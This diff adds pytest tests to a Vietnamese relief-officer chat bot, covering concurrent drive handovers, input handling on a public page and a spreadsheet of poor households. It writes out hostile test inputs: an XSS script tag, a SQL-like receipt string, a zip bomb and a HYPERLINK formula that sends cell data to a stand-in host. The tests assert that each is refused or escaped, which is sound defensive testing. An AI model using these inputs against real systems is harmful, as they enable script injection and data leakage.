@@ -9,6 +9,7 @@ from __future__ import annotations
 from datetime import date
 from pathlib import Path
 
+import pytest
 from sqlalchemy import func, select
 
 from bot.app import App
@@ -161,3 +162,125 @@ async def test_a_cell_of_megabytes_in_the_communes_list_is_said_in_a_line_not_se
     assert "khớp 1 hộ" in screen and "Dòng bỏ qua: 1." in screen
     assert len(screen) < 3_000, len(screen)
     assert "• dòng 5: “Nguyễn AAAA" in screen and "…”: không có hộ nào tên như vậy" in screen
+
+
+async def test_85_million_handed_over_while_support_is_logged_from_the_same_drive_never_both_take_it(
+    any_app: App,
+) -> None:
+    """The drive has 95.000.000 ₫ left. Hùng hands 85.000.000 ₫ over while another officer logs 20.000.000 ₫
+    of support from the same drive (two turns at once, on PostgreSQL): the handover holds the drive's row
+    until it is written, so the support waits, then finds 10.000.000 ₫ left and is refused."""
+    from sqlalchemy import text
+    from sqlalchemy.exc import DBAPIError
+
+    from bot.domain.cases import CaseError, log_support, record_case
+
+    if any_app.db.dialect.name != "postgresql":
+        pytest.skip("SQLite takes one writer at a time: two turns never overlap there")
+    ids = await seed(any_app)
+    drive_id = await _hospital(any_app, ids)
+    async with any_app.sessionmaker() as session, session.begin():
+        hung = await actor_for(session, await session.get_one(Person, ids["hung"]))
+        case = await record_case(
+            session,
+            hung,
+            subject="household",
+            name="Hộ ông Tư",
+            circumstances="Bão",
+            needs="Mái nhà",
+            now=NOW,
+        )
+        case_id = case.id
+    async with any_app.sessionmaker() as first, first.begin():
+        hung = await actor_for(first, await first.get_one(Person, ids["hung"]))
+        await record_remittance(
+            first, hung, org_id=hung.org_id, source="drive", drive_id=drive_id, amount_vnd=85_000_000,
+            board=BOARD, remitted_on=NOW.date(), now=NOW,
+        )  # fmt: skip
+        async with any_app.sessionmaker() as second, second.begin():  # the support meets the lock
+            locked = text("SELECT id FROM drive WHERE id = :id FOR NO KEY UPDATE NOWAIT")
+            with pytest.raises(DBAPIError, match="lock"):
+                await second.execute(locked, {"id": drive_id})
+    async with any_app.sessionmaker() as second, second.begin():  # once the handover is written
+        hung = await actor_for(second, await second.get_one(Person, ids["hung"]))
+        with pytest.raises(CaseError) as refused:
+            await log_support(
+                second, hung, case_id, kind="money", amount_vnd=20_000_000, source="drive", drive_id=drive_id,
+                delivered_on=NOW.date(), now=NOW,
+            )  # fmt: skip
+        assert (refused.value.reason, refused.value.left) == ("balance", 10_000_000)
+
+
+async def test_a_board_typed_long_turned_around_or_as_html_is_refused_or_kept_as_text_on_the_public_page(
+    app: App,
+) -> None:
+    """What was tried and held: a board of 10,000 characters is told the limit and nothing moves on; marks
+    that turn a line around are not kept; HTML and a receipt of SQL wildcards show as typed, escaped, on the
+    public web page; a negative amount is not an amount."""
+    from aiohttp.test_utils import TestClient, TestServer
+
+    from bot.db.models import Drive
+    from bot.domain.public_page import public_key_of
+    from bot.public_web import public_routes
+    from bot.web import make_web_app
+
+    ids = await seed(app)
+    drive_id = await _hospital(app, ids)
+    officer = _chat(app, "hung")
+    await officer.say("/dotvandong")
+    await officer.choose("Tháng cao điểm")
+    await officer.choose("Nộp về quỹ cấp trên")
+    screen = await officer.say("-5tr")
+    assert "Số tiền phải lớn hơn 0, ví dụ: 200k hoặc 1tr2." in screen
+    await officer.say("85tr")
+    screen = await officer.say("B" * 10_000)
+    assert "10000 ký tự" in screen or "10.000 ký tự" in screen
+    await officer.say("\u202eBan <script>alert(1)</script> & “xã”")
+    await officer.choose("Hôm nay")
+    await officer.say("12%_'; --")
+    await officer.choose("Bỏ qua")
+    await officer.choose("Có")
+    async with app.sessionmaker() as session, session.begin():
+        [handover] = await session.scalars(select(Remittance))
+        assert (handover.board, handover.receipt_no) == ("Ban <script>alert(1)</script> & “xã”", "12%_'; --")
+        drive = await session.get_one(Drive, drive_id)
+        hung = await actor_for(session, await session.get_one(Person, ids["hung"]))
+        key = await public_key_of(session, hung, drive, now=NOW)
+    server = TestServer(make_web_app(app.sessionmaker, public_routes(app.sessionmaker, app.engine.clock)))
+    async with TestClient(server) as web:
+        page = await (await web.get(f"/congkhai/{key}")).text()
+    assert "<script>" not in page and "Ban &lt;script&gt;alert(1)&lt;/script&gt; &amp; “xã”" in page
+    assert "12%_&#x27;; --" in page and "\u202e" not in page
+    assert "/media/" not in page and ".jpg" not in page
+
+
+async def test_a_zip_bomb_a_formula_and_one_household_twice_in_the_communes_list(
+    any_app: App, commune: dict[str, object], tmp_path: Path
+) -> None:
+    """What was tried and held: a list that would unpack to 200 MB is refused at once, nothing written; a
+    household “named” as a formula is a name nobody lists, said as text; one household on two rows with two
+    standings is reported on the second row, and saving the matched rows keeps the first, as the officer
+    was told."""
+    from tests.test_outsider import zip_bomb
+
+    officer = poverty_chat(any_app, "officer")
+    await officer.say("/hongheo")
+    await officer.choose("Gửi danh sách rà soát")
+    stored = tmp_path / "bom.xlsx"
+    stored.write_bytes(zip_bomb(200 * 1024 * 1024))
+    screen = await _send_file(any_app, officer, stored)
+    assert "Không đọc được tệp này" in screen
+    rows = [
+        ("Trần Thị Bích", "", "HN"),
+        ('=HYPERLINK("http://x.example/?"&A1,"Bấm")', "Thôn 1", "HN"),
+        ("tran thi bich", "", "Không"),
+    ]
+    screen = await _send_file(any_app, officer, write_list(tmp_path / "ra-soat.xlsx", rows))
+    assert '• dòng 5: “=HYPERLINK("http://x.example/?"&A1,"Bấm")”: không có hộ nào tên như vậy' in screen
+    assert "• dòng 6: “tran thi bich”: trùng với hộ ở dòng 4" in screen
+    screen = await officer.choose("Ghi 1 hộ khớp")
+    assert "Đã ghi loại hộ của 1 hộ cho năm 2026." in screen
+    async with any_app.sessionmaker() as session:
+        from bot.db.models import HouseholdStanding
+
+        assert list(await session.scalars(select(HouseholdStanding.standing))) == ["poor"]
